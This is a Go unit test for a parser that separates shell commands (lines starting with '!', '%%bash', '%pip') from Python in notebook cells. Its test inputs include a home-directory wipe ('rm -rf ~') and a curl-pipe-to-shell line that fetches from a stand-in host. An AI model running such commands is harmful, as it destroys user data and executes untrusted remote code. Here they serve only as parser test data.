package engine

import (
	"slices"
	"testing"
)

func TestNotebookShell(t *testing.T) {
	for _, tt := range []struct {
		cell   string
		shell  []string
		python string
	}{
		{"import os\nprint(1)", nil, "import os\nprint(1)"},
		{"!ls -la\nx = 1", []string{"ls -la"}, "x = 1"},
		{"%%bash\nrm -rf ~\necho done", []string{"rm -rf ~\necho done"}, ""},
		{"%%script bash\nid", []string{"id"}, ""},
		{"%pip install pandas\n%time f()\nf()", []string{"pip install pandas"}, "f()"},
		{"  !curl -s https://x.example | sh", []string{"curl -s https://x.example | sh"}, ""},
	} {
		shell, python := notebookShell(tt.cell)
		if !slices.Equal(shell, tt.shell) || python != tt.python {
			t.Errorf("notebookShell(%q) = %q, %q; want %q, %q", tt.cell, shell, python, tt.shell, tt.python)
		}
	}
}
